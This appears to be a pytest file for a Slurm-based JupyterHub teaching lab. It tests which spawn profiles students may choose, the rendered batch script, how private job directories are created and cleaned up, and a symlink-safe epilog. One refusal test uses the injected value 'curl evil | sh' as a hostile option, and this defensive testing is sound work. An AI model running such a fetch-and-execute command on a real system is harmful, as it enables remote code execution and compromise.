"""The class on Slurm's pieces that run without a hub: the profile a student may choose, the job script
(rendered and run by bash outside Slurm), the job's own cleanup and the node's epilog (issue 30).
The real hub on a private Slurm is tests/test_hub_slurm.py."""
from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest

from conftest import own_tmp_dir
from iolab import hubslurm

ROOT = Path(__file__).resolve().parents[1]
PROFILES = {"1 node": "--nodes=1 --ntasks=2", "2 nodes": "--nodes=2 --ntasks-per-node=1"}


# --- what a student may ask for ---------------------------------------------------------------------

def test_a_student_picks_a_profile_and_nothing_else():
    assert hubslurm.allowed_options({}, PROFILES) == "--nodes=1 --ntasks=2"           # the first: default
    assert hubslurm.allowed_options(None, PROFILES) == "--nodes=1 --ntasks=2"
    assert hubslurm.allowed_options({"profile": ""}, PROFILES) == "--nodes=1 --ntasks=2"
    assert hubslurm.allowed_options({"profile": "2 nodes"}, PROFILES) == "--nodes=2 --ntasks-per-node=1"


@pytest.mark.parametrize("options", [
    {"options": "--nodes=2 --exclusive"},            # batchspawner puts every key into the job script
    {"prologue": "curl evil | sh"},
    {"cmd": "/bin/bash -c 'sleep infinity'"},
    {"srun": "srun --overlap"},
    {"profile": "1 node", "runtime": "99:00:00"},
    {"profile": "all nodes"},
    {"profile": ["1 node"]},
    {"profile": 2},
])
def test_what_the_instructor_did_not_allow_is_refused(options):
    with pytest.raises(hubslurm.RefusedOptions):
        hubslurm.allowed_options(options, PROFILES)


def test_a_class_needs_a_profile():
    with pytest.raises(ValueError):
        hubslurm.allowed_options({}, {})


# --- the job script -----------------------------------------------------------------------------------

def render(**over) -> str:
    subvars = dict(homedir="/home/alice", keepvars="PATH,JUPYTERHUB_API_TOKEN", partition="debug", account="",
                   qos="", runtime="00:30:00", options="--nodes=1 --ntasks=2", srun="",
                   cmd="/opt/v/bin/batchspawner-singleuser /opt/v/bin/jupyterhub-singleuser")
    subvars.update(over)
    return jinja2.Template(hubslurm.BATCH_SCRIPT).render(**hubslurm.batch_script_vars(**subvars))


def test_the_job_script_runs_the_server_in_the_batch_step_with_a_clean_export():
    s = render()
    lines = s.splitlines()
    assert lines[0] == "#!/bin/bash"
    for expected in ("#SBATCH --partition=debug", "#SBATCH --time=00:30:00", "#SBATCH --nodes=1 --ntasks=2",
                     "#SBATCH --export=PATH,JUPYTERHUB_API_TOKEN", "unset SLURM_EXPORT_ENV",
                     '/opt/v/bin/batchspawner-singleuser /opt/v/bin/jupyterhub-singleuser --ip="$server_ip"'):
        assert expected in lines, expected
    assert any(ln.startswith("umask 022 ") for ln in lines)
    assert not any(ln.lstrip().startswith("srun") for ln in lines)               # no step holds the CPUs
    assert lines.index("unset SLURM_EXPORT_ENV") < next(i for i, ln in enumerate(lines) if "singleuser" in ln)
    assert "0.0.0.0" not in s and "#SBATCH --account" not in s
    assert subprocess.run(["bash", "-n"], input=s, text=True, capture_output=True).returncode == 0
    auto = render(server_ip="auto", hub_ip="10.1.0.5")
    assert "ip -o -4 route get 10.1.0.5" in auto
    assert subprocess.run(["bash", "-n"], input=auto, text=True, capture_output=True).returncode == 0


ENV_OF_SERVER = [sys.executable, "-c", """
import json, os, stat, sys
rd, wd = os.environ["JUPYTER_RUNTIME_DIR"], os.environ["IOLAB_WORKDIR"]
open(os.path.join(wd, "made-by-the-lesson"), "w").close()
print("FACTS", json.dumps({"rd": rd, "wd": wd, "export": os.environ.get("SLURM_EXPORT_ENV"),
      "modes": [stat.S_IMODE(os.stat(p).st_mode) for p in (rd, wd, os.path.dirname(wd))],
      "umask": os.umask(0o22), "args": sys.argv[1:]}))
"""]


def run_job(tmp_path: Path, scratch: str = "", job_id: str = "7") -> tuple[dict, subprocess.CompletedProcess]:
    import json
    import shlex

    script = render(cmd=shlex.join(ENV_OF_SERVER), scratch=scratch, prologue="export IOLAB_SITE=loaded")
    env = {**os.environ, "SLURM_JOB_ID": job_id, "TMPDIR": str(tmp_path),
           "SLURM_EXPORT_ENV": "PATH,JUPYTERHUB_API_TOKEN", "PYTHONPATH": str(ROOT)}
    r = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    line = next(ln for ln in r.stdout.splitlines() if ln.startswith("FACTS "))
    return json.loads(line[6:]), r


@pytest.fixture
def short_tmp():
    """A short directory (pytest's tmp_path is too long for a kernel's socket paths)."""
    with own_tmp_dir("hubslurm-") as d:
        yield d


def test_the_job_makes_private_directories_on_the_node_and_removes_them(short_tmp):
    tmp_path = short_tmp
    facts, r = run_job(tmp_path)
    rd, wd = Path(facts["rd"]), Path(facts["wd"])
    assert rd.parent == wd.parent and rd.parent.parent == tmp_path
    assert rd.parent.name.startswith("iolab-7.") and len(rd.parent.name) == len("iolab-7.") + 6
    assert facts["modes"] == [0o700, 0o700, 0o700] and facts["umask"] == 0o22
    assert facts["export"] is None and facts["args"] == ["--ip=127.0.0.1"]
    assert len(str(rd)) <= hubslurm.RUNTIME_DIR_MAX
    assert list(tmp_path.iterdir()) == []                          # removed when the server ended
    assert "iolab: job 7" in r.stdout and "iolab: the server ended" in r.stdout


def test_a_scratch_path_too_long_for_sockets_keeps_the_runtime_dir_in_tmp(tmp_path):
    deep = tmp_path / ("d" * 60)
    deep.mkdir()
    facts, _ = run_job(tmp_path, scratch=str(deep), job_id="8")
    assert Path(facts["wd"]).parent.parent == deep
    assert facts["rd"].startswith("/tmp/iolab-8.") and len(facts["rd"]) <= hubslurm.RUNTIME_DIR_MAX
    assert not Path(facts["rd"]).exists() and list(deep.iterdir()) == []


def test_the_runtime_dir_limit_fits_a_kernels_socket_names():
    name = "/kernel-" + "0" * 8 + "-0000-0000-0000-" + "0" * 12 + "-ipc-5"
    assert hubslurm.RUNTIME_DIR_MAX + len(name) == hubslurm.SOCKET_PATH_MAX


# --- the epilog ---------------------------------------------------------------------------------------

def test_the_epilog_finds_only_this_jobs_own_directories(tmp_path):
    mine = tmp_path / "iolab-41.AbCdEf"
    other_job = tmp_path / "iolab-410.AbCdEf"
    (mine / "work").mkdir(parents=True)
    other_job.mkdir()
    target = tmp_path / "precious"
    target.mkdir()
    (tmp_path / "iolab-41.link").symlink_to(target)
    uid = os.geteuid()
    assert hubslurm.job_dirs([tmp_path, tmp_path / "absent"], "41", uid) == [str(mine)]
    assert hubslurm.job_dirs([tmp_path], "41", uid + 1) == []                   # another user's job
    with pytest.raises(ValueError):
        hubslurm.job_dirs([tmp_path], "4*", uid)
    with pytest.raises(ValueError):
        hubslurm.epilog([tmp_path], env={})
    assert hubslurm.epilog([tmp_path], env={"SLURM_JOB_ID": "41", "SLURM_JOB_UID": str(uid)}) == []
    assert not mine.exists() and other_job.exists() and target.exists()


def test_cleanup_removes_only_the_users_own_real_directories(tmp_path):
    d = tmp_path / "iolab-5.abcdef"
    (d / "run").mkdir(parents=True)
    link = tmp_path / "iolab-5.link"
    keep = tmp_path / "keep"
    keep.mkdir()
    link.symlink_to(keep)
    assert hubslurm.cleanup(d, link) == []
    assert not d.exists() and keep.exists() and link.is_symlink()
    assert stat.S_ISDIR(os.lstat(keep).st_mode)


# --- lesson 05's class setting for shared metadata servers ---------------------------------------------

def test_a_class_setting_leaves_shared_filesystems_out_of_lesson_05(monkeypatch, tmp_path):
    from iolab import fsinfo
    from iolab.lessons.l05_mdtest import metadata

    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    real = fsinfo.mount_of

    def mount_of(path, text=None):
        if Path(path) == home:                                   # the home on NFS, as on a cluster
            return fsinfo.Mount(str(home), "nfs4", "server:/home", "rw")
        return real(path, text)
    monkeypatch.setattr(fsinfo, "mount_of", mount_of)
    monkeypatch.delenv(metadata.SHARED_MDTEST, raising=False)
    assert home in metadata.candidate_dirs()                    # default: every candidate
    monkeypatch.setenv(metadata.SHARED_MDTEST, "off")
    got = metadata.candidate_dirs()
    assert home not in got and Path("/tmp") in got
    monkeypatch.setenv(metadata.SHARED_MDTEST, "On")
    assert home in metadata.candidate_dirs()
    monkeypatch.setenv(metadata.SHARED_MDTEST, "sometimes")
    with pytest.raises(ValueError):
        metadata.candidate_dirs()
